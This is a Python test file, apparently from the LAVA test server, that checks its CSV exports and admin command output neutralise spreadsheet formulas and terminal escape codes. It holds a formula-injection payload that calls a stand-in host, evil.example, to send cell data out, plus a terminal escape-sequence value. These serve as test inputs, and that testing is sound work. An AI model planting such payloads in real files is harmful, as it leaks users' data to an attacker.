"""CSV exports over REST and XML-RPC keep a submitter's formulas as text."""

from __future__ import annotations

import csv
import io

from rpc_helpers import rpc

from lava.common import log
from lava.server.logs.store import log_store
from lava.server.results.ingest import ingest
from lava.server.results.models import TestSuite
from lava.server.scheduler.management.output import render
from lava.server.scheduler.models import TestJob

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def test_rest_and_xmlrpc_csv_neutralise_formulas(client, users, data_dir) -> None:
    job = TestJob.objects.create(submitter=users["owner"], definition="x")
    text = log.encode("results", {"definition": "@suite", "case": FORMULA, "result": "pass"})
    log_store().append(job.id, 0, text + "\n")
    ingest(job, 0, text + "\n")
    suite_id = TestSuite.objects.get(job=job, name="@suite").id
    exports = [
        client.get(f"/api/v0.2/jobs/{job.id}/csv/").content.decode(),
        client.get(f"/api/v0.2/jobs/{job.id}/suites/{suite_id}/csv/").content.decode(),
        rpc(client, "results.get_testjob_results_csv", job.id),
        rpc(client, "results.get_testsuite_results_csv", job.id, "@suite"),
        rpc(client, "results.get_testcase_results_csv", job.id, "@suite", FORMULA),
    ]
    for number, export in enumerate(exports):
        assert export.count("\n") == 2, (number, export)
        (row,) = csv.DictReader(io.StringIO(export))
        assert (row["name"], row["suite"]) == ("'" + FORMULA, "'@suite")
    (suite,) = [
        r
        for r in csv.DictReader(
            io.StringIO(rpc(client, "results.get_testjob_suites_list_csv", job.id))
        )
        if r["name"] != "'lava"
    ]
    assert suite["name"] == "'@suite"


def test_admin_command_output_keeps_a_description_harmless() -> None:
    rows = [{"id": 1, "description": "=cmd\x1b]0;pwned\x07"}]
    assert render(rows, ["id", "description"], csv_out=True).splitlines()[1] == (
        "1,'=cmd\\x1b]0;pwned\\x07"
    )
    assert "\x1b" not in render(rows, ["id", "description"])
